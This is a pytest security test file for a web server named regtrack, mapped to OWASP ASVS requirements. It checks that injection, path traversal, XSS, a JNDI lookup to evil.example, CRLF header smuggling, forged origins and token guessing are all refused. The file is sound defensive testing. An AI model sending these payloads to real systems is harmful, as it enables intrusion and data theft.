"""What somebody may try: each attack, and that it comes to nothing.

The numbers are requirements of the OWASP Application Security Verification Standard 4.0.3, level 2.
"""

import asyncio
import json
import logging
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from regtrack.server.accounts import Accounts
from regtrack.server.app import build
from regtrack.server.guard import HEADERS, LONGEST_BODY
from regtrack.store import Batch, SqliteStore
from tests.helpers import e, events_of, rule
from tests.server.conftest import ADDRESS, AT, PROXY, RULES, Asked, ServerClock

ORIGIN = {"origin": ADDRESS}
FORMS = ("", ".csv", ".ics", ".atom", ".html")
HOSTILE = [
    "'; DROP TABLE entry; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "x" * 501,
    "a NEAR b*",
    "[" * 5000,
]


# --- input (5) ------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    ["/v1/state?instrument=", "/v1/search?words=", "/v1/board?topic=", "/v1/board?on=", "/v1/board?cursor=",
     "/v1/board?fields=", "/v1/text?scope=", "/v1/upcoming.ics?name=", "/v1/upcoming.ics?alarm=", "/v1/",
     "/assets/", "/v1/me/bookmarks/"],
)  # fmt: skip
def test_no_input_becomes_a_path_a_statement_or_markup(ask: Asked, store: SqliteStore, address: str) -> None:
    """5.1.3, 5.3.4, 12.3.1: it is refused in a sentence, or looked for and not found; nothing of the server shows."""
    before = store.totals()
    for text in HOSTILE:
        sent = ask(f"{address}{text}")
        assert sent.status_code in (200, 400, 401, 404, 405, 414)
        for word in ("Traceback", "sqlite", str(store.location), "root:x:0", "site-packages", "regtrack/server"):
            assert word not in sent.text
        if "html" in sent.headers["content-type"]:
            assert "<script>alert" not in sent.text
    assert store.totals() == before


@pytest.mark.parametrize("address", ["/search?words=", "/state?instrument=", "/text?scope=", "/since?since="])
def test_what_is_asked_is_escaped_on_pages(ask: Asked, address: str) -> None:
    """5.3.3."""
    sent = ask(f'{address}"><script>alert(1)</script>', headers={"accept": "text/html"})
    assert "<script>alert" not in sent.text
    assert "unsafe" not in sent.headers["content-security-policy"]


def test_a_title_by_an_author_who_is_not_trusted_is_no_markup(ask: Asked, store: SqliteStore) -> None:
    evil = rule("us/t/evil", title="</title><script>alert(1)</script>")
    said = events_of([e("publish", "t:evil", target="us/t/evil", published="2024-05-30", summary="<img onerror=x>")])
    store.append(Batch("u", "U", [evil, *said]), AT - 10)
    for address in ("/board", "/since?since=2024-05-01", "/search?words=alert", "/timeline"):
        sent = ask(address)
        assert sent.status_code == 200
        assert "<script>alert" not in sent.text
        assert "<img onerror" not in sent.text


def test_json_is_read_strictly(ask: Asked, ada: dict[str, str]) -> None:
    """5.1.3, 13.2.2, 13.2.5."""
    for body in ("[" * 30_000, '{"a":' * 5_000, "nonsense", '{"at": 1e999}', '"x"', "null", '{"at": {"$ne": 1}}'):
        sent = ask("/v1/me/bookmarks/x", "PUT", content=body, headers={**ada, "content-type": "application/json"})
        assert sent.status_code == 400, body[:20]
    plain = ask("/v1/review", "POST", content="{}", headers={**ada, "content-type": "text/plain"})
    assert plain.status_code == 415


# --- sizes, rates, time (11, 12) ------------------------------------------------------------


def test_a_body_and_a_question_have_a_largest_size(ask: Asked, ada: dict[str, str]) -> None:
    """12.1.1, 13.1.3."""
    typed = {**ada, "content-type": "application/json"}
    assert ask("/v1/review", "POST", content=b"x" * (LONGEST_BODY + 1), headers=typed).status_code == 413

    def drip() -> Any:
        for _ in range(LONGEST_BODY // 1024 + 2):
            yield b" " * 1024

    assert ask("/v1/review", "POST", content=drip(), headers=typed).status_code == 413  # no length is named
    assert ask(f"/v1/board?topic={'x' * 9000}").status_code == 414


def test_a_client_that_asks_too_often_waits(serve: Callable[..., Asked], clock: ServerClock) -> None:
    """11.1.4."""
    ask = serve(rate=5)
    assert [ask("/health").status_code for _ in range(6)] == [200] * 5 + [429]
    assert int(ask("/health").headers["retry-after"]) >= 1
    clock.seconds += 13
    assert ask("/health").status_code == 200


def test_tokens_cannot_be_tried_in_numbers(serve: Callable[..., Asked], clock: ServerClock, token: str) -> None:
    """2.2.1."""
    ask = serve(sign_ins=3)
    wrong = [ask("/v1/me", headers={"authorization": f"Bearer rt_{n}"}).status_code for n in range(5)]
    assert wrong == [401, 401, 401, 429, 429]
    assert ask("/signin", "POST", data={"token": "x"}, headers=ORIGIN).status_code == 429
    clock.seconds += 61
    assert ask("/v1/me", headers={"authorization": "Bearer rt_6"}).status_code == 401


def test_wrong_tokens_lock_out_nobody_else_behind_the_same_address(
    serve: Callable[..., Asked], clock: ServerClock, token: str
) -> None:  # fmt: skip
    """A firm shares one address: neither somebody's old cookie nor a stranger's guesses keep the others out."""
    ask = serve(sign_ins=3)
    old = {"cookie": "regtrack=rt_of_last_year"}
    assert [ask("/board", headers=old).status_code for _ in range(6)] == [200] * 6
    assert ask("/v1/me", headers=old).status_code == 401
    assert ask("/v1/me", headers={"authorization": "Bearer rt_guess"}).status_code == 429
    assert ask("/v1/me", headers={"authorization": f"Bearer {token}"}).status_code == 200
    assert ask("/signin", "POST", data={"token": token}, headers=ORIGIN).status_code == 303


def test_who_is_counted_cannot_be_forged(serve: Callable[..., Asked]) -> None:
    ask = serve(rate=3)
    sent = [ask("/health", headers={"x-forwarded-for": f"198.51.100.{n}"}).status_code for n in range(4)]
    assert sent == [200, 200, 200, 429]
    behind = serve("10.0.0.2", rate=3, proxies=PROXY)
    sent = [behind("/health", headers={"x-forwarded-for": f"6.6.6.6, 198.51.100.{n}"}).status_code for n in range(9)]
    assert sent == [200] * 9


def scope_of(method: str, path: str, *headers: tuple[str, str]) -> dict[str, Any]:
    named = [(name.encode(), value.encode()) for name, value in (("host", "rules.example.org"), *headers)]
    return {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "", "headers": named,
        "client": ("192.0.2.1", 5000), "server": ("rules.example.org", 80),
    }  # fmt: skip


def answered(app: Any, scope: dict[str, Any], receive: Callable[[], Any]) -> list[Any]:
    sent = list[Any]()

    async def send(message: Any) -> None:
        sent.append(message)

    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()
    return sent


def test_a_body_that_never_ends_is_given_up(store: SqliteStore, clock: ServerClock, token: str) -> None:
    """11.1.4: a client that drips its body holds nothing for long."""
    import attrs

    async def receive() -> Any:
        await asyncio.Event().wait()

    app = build(store, attrs.evolve(RULES, body_seconds=0.0), clock, seconds=lambda: 0.0)
    typed = ("content-type", "application/json"), ("authorization", f"Bearer {token}")
    start, *_ = answered(app, scope_of("POST", "/v1/review", *typed), receive)
    assert start["status"] == 408


def test_an_answer_that_takes_too_long_is_given_up(
    store: SqliteStore, clock: ServerClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    import attrs

    from regtrack.server.answers import AnswerDesk

    app = build(store, attrs.evolve(RULES, answer_seconds=0.0), clock, seconds=lambda: 0.0)

    async def receive() -> Any:
        return {"type": "http.request", "body": b"", "more_body": False}

    monkeypatch.setattr(AnswerDesk, "answer", lambda *_: None)
    start, *_ = answered(app, scope_of("GET", "/v1/board"), receive)
    assert start["status"] == 503


# --- origins, hosts, frames (4.2.2, 13.2.3, 14.4, 14.5) ------------------------------------------------------------


@pytest.mark.parametrize(
    "origin", [{"origin": "https://evil.example"}, {"origin": "null"}, {}, {"sec-fetch-site": "cross-site"}]
)
def test_a_page_of_another_origin_changes_nothing(
    ask: Asked, store: SqliteStore, token: str, origin: dict[str, str]
) -> None:
    """4.2.2: the browser of somebody who is signed in sends their cookie with it, and it is refused."""
    ask("/signin", "POST", data={"token": token}, headers=ORIGIN)
    before = store.head()
    assert ask("/v1/me", "PUT", json={"subscription": []}, headers=origin).status_code == 403
    assert ask("/v1/me/bookmarks/x", "PUT", json={}, headers=origin).status_code == 403
    form = {"about": "0" * 24, "action": "seen"}
    assert ask("/review", "POST", data=form, headers=origin).status_code == 403
    assert ask("/signout", "POST", headers=origin).status_code == 403
    assert store.head() == before


def test_nor_does_it_through_a_proxy(serve: Callable[..., Asked]) -> None:
    ask = serve("10.0.0.2", proxy_header="X-Remote-User", proxies=PROXY)
    for origin in ({}, {"origin": "https://evil.example"}):
        sent = ask("/v1/me/bookmarks/x", "PUT", json={}, headers={"x-remote-user": "eve", **origin})
        assert sent.status_code == 403


@pytest.mark.parametrize(
    "host", ["evil.example", "rules.example.org.evil.example", "rules.example.org:99", "127.0.0.1"]
)
def test_only_its_own_names_are_answered(ask: Asked, host: str) -> None:
    """No rebinding of names, and no link to elsewhere in an answer (14.5.3)."""
    sent = ask("/v1/board", headers={"host": host})
    assert sent.status_code == 400
    assert host not in sent.text


def test_every_answer_carries_its_headers(ask: Asked, ada: dict[str, str]) -> None:
    """14.4: frames, types, referrers, policies; also with errors, and nothing that names the software."""
    for address in (
        "/",
        "/board",
        "/v1/board",
        "/v1/nothing",
        "/v1/state?instrument=zzz",
        "/v1/me",
        "/assets/page.css",
    ):
        sent = ask(address, headers=ada)
        for name in HEADERS:
            assert sent.headers[name], (address, name)
        assert "frame-ancestors 'none'" in sent.headers["content-security-policy"]
        assert "server" not in sent.headers
        assert "charset=utf-8" in sent.headers["content-type"] or "json" in sent.headers["content-type"]
        assert "access-control-allow-origin" not in sent.headers
    assert ask("/v1/me", headers=ada).headers["cache-control"] == "no-store"


def test_methods_that_nothing_takes_are_refused(ask: Asked) -> None:
    """13.2.1, 14.5.1."""
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT"):
        assert ask("/v1/board", method, headers=ORIGIN).status_code in (400, 405)


def test_where_to_go_back_to_is_no_address(ask: Asked, ada: dict[str, str]) -> None:
    """5.1.5: no redirect to elsewhere."""
    change = ask("/v1/review?since=2024-04-01", headers=ada).json()["changes"][0]
    for back in ("https://evil.example", "//evil.example", "since=7d\r\nSet-Cookie: x=1", "x=javascript:alert(1)"):
        form = {"about": change["id"], "events": " ".join(change["events"]), "action": "seen", "back": back}
        sent = ask("/review", "POST", data=form, headers={**ada, **ORIGIN})
        assert sent.headers["location"].startswith("/review?")
        assert "evil" not in sent.headers["location"]
        assert "set-cookie" not in sent.headers


# --- who is who (3, 4) ------------------------------------------------------------


def test_a_header_of_a_proxy_is_believed_from_the_proxy_alone(serve: Callable[..., Asked]) -> None:
    """4.1.1: whoever reaches the server directly names nobody."""
    for ask in (
        serve(proxy_header="X-Remote-User", proxies=PROXY),
        serve("10.0.0.2"),
        serve("10.0.0.2", proxies=PROXY),
    ):
        assert ask("/v1/me", headers={"x-remote-user": "ada"}).status_code == 401
    ask = serve("10.0.0.2", proxy_header="X-Remote-User", proxies=PROXY)
    twice = [("x-remote-user", "bob"), ("x-remote-user", "ada")]
    assert ask("/v1/me", headers=twice).status_code == 401
    assert ask("/v1/me", headers={"x-remote-user": "../ada"}).status_code == 401


@pytest.mark.parametrize(
    "given", ["Basic YWRhOmFkYQ==", "Bearer", "Bearer ", "Token x", "Bearer rt_x", f"Bearer {'x' * 999}"]
)
def test_what_is_no_token_signs_nobody_in(ask: Asked, token: str, given: str) -> None:
    assert ask("/v1/me", headers={"authorization": given}).status_code == 401


def test_a_digest_of_a_token_is_no_token(ask: Asked, store: SqliteStore, token: str) -> None:
    """2.4.1: who reads the ledger or an export of it cannot sign in."""
    (digest,) = store.people()["ada"].tokens
    assert ask("/v1/me", headers={"authorization": f"Bearer {digest}"}).status_code == 401


def test_nobody_acts_for_another(ask: Asked, store: SqliteStore, clock: ServerClock, ada: dict[str, str]) -> None:
    """4.2.1: there is no address at which one could name somebody else."""
    bob = {"authorization": f"Bearer {Accounts(store, clock).add('bob')}"}
    ask("/v1/me/bookmarks/last", "PUT", json={"at": "2024-05-01T00:00:00Z"}, headers=ada)
    for name in ("ada/last", "..%2Fada%2Flast", "../ada/last", "ada%2flast"):
        assert ask(f"/v1/me/bookmarks/{name}", "PUT", json={}, headers=bob).status_code in (400, 404)
    assert ask("/v1/me", headers=ada).json()["bookmarks"] == {"last": "2024-05-01T00:00:00Z"}
    assert ask("/v1/since?since=last:ada/last", headers=bob).status_code == 400
    assert store.bookmarks().keys() == {"ada/last"}
    assert ask("/v1/audit", headers=bob).status_code == 403


# --- what is private ------------------------------------------------------------


def test_what_is_private_is_in_no_public_answer(ask: Asked, store: SqliteStore, ada: dict[str, str]) -> None:
    """Whatever the public asks, in whatever form: no note, no name, no address, no digest of a token."""
    change = ask("/v1/review?since=2024-04-01", headers=ada).json()["changes"][0]
    note = {"about": change["id"], "events": change["events"], "action": "note", "note": "Kumquat Holdings is exposed."}
    assert ask("/v1/review", "POST", json=note, headers=ada).status_code == 201
    follow = {"subscription": [{"instrument": ["us/t/a"], "note": "Durian Ltd"}]}
    assert ask("/v1/me", "PUT", json=follow, headers=ada).status_code == 200
    ask("/v1/me/bookmarks/secretmark", "PUT", json={}, headers=ada)
    asked = [
        "/", "/board", "/since?since=2024-01-01", "/timeline", "/upcoming", "/state?instrument=us/t/a", "/openapi.json",
        "/search?words=Kumquat", "/v1/search?words=Kumquat", "/v1/search?words=Durian", "/v1/search?words=ada",
        *(f"/v1/{name}{form}" for name in ("board", "upcoming", "timeline") for form in FORMS),
        "/v1/since?since=2024-01-01", "/v1/state?instrument=us/t/a", "/v1/verify?citation=us/t/a",
        "/v1/me", "/v1/review?since=2024-01-01", "/v1/audit", "/v1/since?since=last:secretmark", "/review",
    ]  # fmt: skip
    private = ("kumquat", "durian", "ada@example.org", '"people"', "secretmark", store.people()["ada"].tokens[0])
    for address in asked:
        sent = ask(address)
        text = sent.text.lower().replace(address.lower(), "")
        for word in private:
            if word not in address.lower():
                assert word not in text, (address, word)
        if sent.status_code == 200 and address.startswith("/v1/search"):
            assert sent.json()["found"] == []


def test_an_answer_for_somebody_is_kept_by_no_shared_cache(ask: Asked, ada: dict[str, str]) -> None:
    """8.2.1."""
    assert ask("/v1/board").headers["cache-control"] == "public, no-cache"
    assert ask("/v1/board", headers=ada).headers["cache-control"] == "private, no-cache"
    assert "Authorization" in ask("/v1/board").headers["vary"]


def test_no_secret_reaches_the_log(
    ask: Asked, store: SqliteStore, token: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """7.1.1, 7.3.1: attempts are in it, in a line each, and neither tokens nor what was asked."""
    caplog.set_level(logging.DEBUG, logger="regtrack.server")
    ask("/v1/me", headers={"authorization": "Bearer rt_wrong\x7ftoken"})
    ask("/v1/me", headers={"authorization": f"Bearer {token}"})
    ask("/signin", "POST", data={"token": token}, headers=ORIGIN)
    ask("/v1/state?instrument=secret-client%0aforged")
    ask("/v1/me", "PUT", json={}, headers={"origin": "https://evil.example\nforged"})
    text = caplog.text
    assert "a wrong token from 192.0.2.1" in text
    assert "another origin" in text
    for secret in (token, "rt_wrong", "secret-client", "forged"):
        assert secret not in text


def test_a_fault_of_the_server_shows_nothing_of_it(
    ask: Asked, store: SqliteStore, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """7.4.1."""

    def broken(*_: object) -> None:
        raise ZeroDivisionError("secret inside")

    monkeypatch.setattr(type(store), "latest", broken)
    for address in ("/v1/board", "/board", "/health"):
        sent = ask(address)
        assert (sent.status_code, sent.json()["title"]) == (500, "Internal Server Error")
        assert "secret" not in sent.text
        assert "ZeroDivision" not in sent.text
    assert "ZeroDivisionError in" in caplog.text
    assert "secret inside" not in caplog.text


def test_websockets_are_not_spoken(store: SqliteStore, clock: ServerClock) -> None:
    async def receive() -> Any:
        return {"type": "websocket.connect"}

    app = build(store, RULES, clock, seconds=lambda: 0.0)
    assert answered(app, {"type": "websocket", "path": "/", "headers": []}, receive) == []


# --- assistants ------------------------------------------------------------


def test_assistants_ask_beside_it_by_the_same_rules(store: SqliteStore, clock: ServerClock, token: str) -> None:
    """The Model Context Protocol over HTTP; a private server wants a token there too."""
    import attrs
    from starlette.testclient import TestClient

    from regtrack.cli.serve import _assistants

    asked = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    typed = {"accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-06-18"}

    def run(private: bool, headers: dict[str, str]) -> Any:
        rules = attrs.evolve(RULES, private=private)
        app = build(store, rules, clock, seconds=lambda: 0.0, assistants=_assistants())
        with TestClient(app, base_url=ADDRESS, client=("192.0.2.1", 5000)) as client:
            return client.post("/mcp", json=asked, headers={**typed, **headers})

    with ThreadPoolExecutor(1) as pool:
        shown = pool.submit(run, False, {}).result()
        assert "verify_citation" in shown.text, shown.text
        assert pool.submit(run, True, {}).result().status_code == 401
        assert pool.submit(run, True, {"authorization": f"Bearer {token}"}).result().status_code == 200
        assert pool.submit(run, False, {"origin": "https://evil.example"}).result().status_code == 403


def test_the_record_is_whole_after_all_of_it(ask: Asked, store: SqliteStore, ada: dict[str, str]) -> None:
    change = ask("/v1/review?since=2024-04-01", headers=ada).json()["changes"][0]
    for action in ("seen", "done"):
        body = {"about": change["id"], "events": change["events"], "action": action}
        ask("/v1/review", "POST", json=body, headers=ada)
    assert list(store.check()) == []
    assert json.dumps(list(store.dump()))


def test_a_ledger_that_was_replaced_is_not_answered_from(ask: Asked, store: SqliteStore, tmp_path: Path) -> None:
    """As by somebody who restores a copy: the old file would be answered from for as long as the server runs."""
    etag = ask("/v1/board").headers["etag"]
    (tmp_path / "ledger.sqlite").rename(tmp_path / "old.sqlite")
    SqliteStore(tmp_path / "ledger.sqlite").close()
    for address in ("/v1/board", "/board", "/health"):
        assert ask(address, headers={"if-none-match": etag}).status_code == 503
